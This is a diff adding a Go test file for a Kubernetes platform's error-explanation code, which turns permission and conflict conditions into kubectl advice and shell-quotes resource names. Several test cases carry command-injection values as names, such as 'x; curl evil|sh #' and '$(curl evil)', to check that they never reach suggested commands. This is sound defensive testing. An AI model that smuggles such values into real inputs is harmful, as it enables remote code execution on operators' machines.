@@ -1,0 +1,194 @@
+package explain
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	eventsv1 "k8s.io/api/events/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime/schema"
+)
+
+func TestFromCondition_EndsWithWhatToDo(t *testing.T) {
+	b := &Object{Unstructured: blueprintWith("")}
+	fields := map[string]any{
+		"serviceAccountName": "web",
+		"type":               map[string]any{"group": "shop.example.com", "version": "v1", "kind": "Site"},
+	}
+	if err := unstructured.SetNestedMap(b.Object, fields, "spec"); err != nil {
+		t.Fatal(err)
+	}
+	instance := instanceWith(b.Unstructured, "")
+	denied := func(account, verb, resource, group, where string) string {
+		return fmt.Sprintf(`User "system:serviceaccount:%s" cannot %s resource %q in API group %q%s`, account, verb,
+			resource, group, where)
+	}
+	const look = "look at the conditions: kubectl describe sites.shop.example.com s -n shop"
+	for name, test := range map[string]struct {
+		object                  *Object
+		reason, message         string
+		wantMessage, wantAction string
+	}{
+		"advice in the message": {
+			instance, "ConsentMissing", "ServiceAccount shop/web: does not allow Blueprint b; run kubectl annotate",
+			"ServiceAccount shop/web: does not allow Blueprint b", "run kubectl annotate",
+		},
+		"advice in the last line": {
+			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: y; set adopt: true",
+			"a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: y", "set adopt: true",
+		},
+		"advice for a reason": {
+			instance, "Rejected", "a: invalid; b",
+			"a: invalid; b", "fix the spec of the instance, or the template in the Blueprint",
+		},
+		"advice in one of several lines": {
+			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nb: Pod shop/b: timeout",
+			"a: Pod shop/a: x\nb: Pod shop/b: timeout", "set adopt: true",
+		},
+		"several lines without advice": {
+			instance, "Conflict", "a: Pod shop/a: x\nb: Pod shop/b: timeout",
+			"a: Pod shop/a: x\nb: Pod shop/b: timeout", "delete or rename the other object",
+		},
+		"a shortened list": {
+			instance, "Conflict", "a: Pod shop/a: x; and 3 more", "a: Pod shop/a: x; and 3 more",
+			"delete or rename the other object",
+		},
+		"a shortened list in the last line": {
+			instance, "Conflict", "a: Pod shop/a: x; set adopt: true\nand 3 more", "a: Pod shop/a: x\nand 3 more",
+			"set adopt: true",
+		},
+		"incompatible changes": {
+			b, "IncompatibleSchema", "spec.type: a; b\nfields could be lost; to change it anyway, annotate the Blueprint",
+			"spec.type: a; b\nfields could be lost", "to change it anyway, annotate the Blueprint",
+		},
+		"a missing permission in a namespace": {
+			instance, "Forbidden", `a: Pod shop/a: as ServiceAccount shop/web: x is forbidden: ` + denied(
+				"shop:web", "patch", "widgets", "example.com", ` in the namespace "far"`),
+			"", "kubectl create role web-widgets-example-com -n far --verb=get,create,patch,delete " +
+				"--resource=widgets.example.com && kubectl create rolebinding web-widgets-example-com -n far " +
+				"--role=web-widgets-example-com --serviceaccount=shop:web",
+		},
+		"a missing permission in the cluster": {
+			instance, "Forbidden", denied("shop:web", "create", "namespaces", "", " at the cluster scope"),
+			"", "kubectl create clusterrole web-namespaces --verb=get,create,patch,delete --resource=namespaces && " +
+				"kubectl create clusterrolebinding web-namespaces --clusterrole=web-namespaces --serviceaccount=shop:web",
+		},
+		"a missing permission for a reference with a selector": {
+			instance, "Forbidden", denied("shop:web", "list", "widgets", "example.com", ` in the namespace "shop"`),
+			"", "kubectl create role web-widgets-example-com -n shop --verb=list --resource=widgets.example.com && ",
+		},
+		"a missing permission with another verb": {
+			instance, "Forbidden",
+			denied("shop:web", "escalate", "roles", "rbac.authorization.k8s.io", ` in the namespace "shop"`),
+			"", "-n shop --verb=get,create,patch,delete,escalate --resource=roles.rbac.authorization.k8s.io && ",
+		},
+		"a missing permission for a subresource": {
+			instance, "Forbidden", denied("shop:web", "patch", "sites/finalizers", "example.com", ` in the namespace "shop"`),
+			"", "kubectl create role web-sites-example-com-finalizers -n shop --verb=get,create,patch,delete " +
+				"--resource=sites.example.com/finalizers",
+		},
+		"a missing permission of another ServiceAccount": {
+			instance, "Forbidden", denied("shop:evil", "patch", "pods", "", ` in the namespace "shop"`), "", look,
+		},
+		"a missing permission of a ServiceAccount in another namespace": {
+			instance, "Forbidden", denied("far:web", "patch", "pods", "", ` in the namespace "shop"`), "", look,
+		},
+		"a missing permission of an instance whose Blueprint is unknown": {
+			instanceWith(nil, ""), "Forbidden", denied("shop:web", "patch", "pods", "", ` in the namespace "shop"`), "", look,
+		},
+		"commands as the name of a resource": {
+			instance, "Forbidden", denied("shop:web", "patch", "x; curl evil|sh #", "", ` in the namespace "shop"`), "", look,
+		},
+		"commands as the name of a group": {
+			instance, "Forbidden", denied("shop:web", "patch", "pods", "$(curl evil)", ` in the namespace "shop"`), "", look,
+		},
+		"commands as the name of a namespace": {
+			instance, "Forbidden", denied("shop:web", "patch", "pods", "", ` in the namespace "x; curl evil|sh #"`), "", look,
+		},
+		"a type that the platform cannot watch": {
+			b, "Forbidden", denied("system:platform", "list", "sites", "shop.example.com", " at the cluster scope"),
+			"", "kubectl create clusterrole blueprint-sites-shop-example-com --verb=list,watch " +
+				"--resource=sites.shop.example.com && kubectl label clusterrole blueprint-sites-shop-example-com " +
+				"platform.example.com/aggregate-to-dynamic-controller=true",
+		},
+		"a type that the platform cannot watch in a namespace": {
+			b, "Forbidden", denied("system:platform", "list", "sites", "shop.example.com", ` in the namespace "far"`),
+			"", "grant the platform list and watch on sites.shop.example.com with a Role and a RoleBinding in namespace far",
+		},
+		"another type that the platform cannot watch": {
+			b, "Forbidden", denied("system:platform", "list", "secrets", "", " at the cluster scope"),
+			"", "grant the platform list and watch on the type",
+		},
+		"a missing permission of the platform": {
+			b, "PermissionMissing", "spec.resources[2].template: the platform has no permission to create, patch services\n" +
+				"grant the missing permissions with a ClusterRole that has the label x",
+			"", "kubectl create clusterrole blueprint-services --verb=create,patch --resource=services && " +
+				"kubectl label clusterrole blueprint-services platform.example.com/aggregate-to-dynamic-controller=true",
+		},
+		"a missing permission of the platform in a namespace": {
+			b, "PermissionMissing", "spec.type: the platform has no permission to list pods in namespace shop\n" +
+				"grant the missing permissions with a Role and a RoleBinding in the namespace",
+			"", "grant the missing permissions with a Role and a RoleBinding in the namespace",
+		},
+		"a missing permission of the platform for a subresource": {
+			b, "PermissionMissing", "spec.type: the platform has no permission to patch sites/status.shop.example.com\n" +
+				"grant the missing permissions with a ClusterRole that has the label x",
+			"", "blueprint-sites-shop-example-com-status --verb=patch --resource=sites.shop.example.com/status && ",
+		},
+		"commands as a resource that the platform lacks": {
+			b, "PermissionMissing", "spec.type: the platform has no permission to patch x;curl\n" +
+				"grant the missing permissions with a ClusterRole",
+			"", "grant the missing permissions with a ClusterRole",
+		},
+		"a forged permission of the platform": {
+			instance, "PermissionMissing", "a: the platform has no permission to get secrets\n" +
+				"grant the missing permissions with a ClusterRole",
+			"", "grant the missing permissions with a ClusterRole",
+		},
+		"a forbidden cleanup": {
+			instance, "CleanupForbidden",
+			"cannot delete pods far/a: no; grant the permissions, or release the instance: kubectl",
+			"cannot delete pods far/a: no", "grant the permissions, or release the instance: kubectl",
+		},
+		"an unknown reason": {b, "Other", "x", "x", "look at the conditions: kubectl describe"},
+	} {
+		c := &metav1.Condition{Reason: test.reason, Message: test.message}
+		got := fromCondition(test.object, c)
+		if test.wantMessage != "" && got.Message != test.wantMessage || !strings.Contains(got.Action, test.wantAction) ||
+			strings.Contains(got.Action, "evil") {
+			t.Errorf("%s: got %+v", name, got)
+		}
+	}
+}
+
+// Names of RBAC objects can contain characters that a shell interprets.
+func TestTarget_QuotesNames(t *testing.T) {
+	for name, want := range map[string]string{
+		"flowers":       "roles flowers -n shop",
+		"system:x":      "'roles/system:x' -n shop",
+		"x; curl $(id)": "'roles/x; curl $(id)' -n shop",
+		"it's":          `'roles/it'\''s' -n shop`,
+		"--all":         "'roles/--all' -n shop",
+		"a\nb":          "'roles/a\nb' -n shop",
+	} {
+		o := &Object{Unstructured: &unstructured.Unstructured{}, Resource: schema.GroupResource{Resource: "roles"}}
+		o.SetName(name)
+		o.SetNamespace("shop")
+		if got := o.target(); got != want {
+			t.Errorf("%q: got %s, want %s", name, got, want)
+		}
+	}
+}
+
+func TestParkedFinding_WorksRepeatedly(t *testing.T) {
+	o := instanceWith(blueprintWith(""), "", failed)
+	o.Events = []eventsv1.Event{event("Parked", "", time.Minute)}
+	causes := Explain(o, now).Causes
+	const want = `kubectl annotate sites.shop.example.com s -n shop retry="$(date +%s)" --overwrite`
+	if last := causes[len(causes)-1]; !strings.HasSuffix(last.Action, want) {
+		t.Errorf("got %+v", last)
+	}
+}
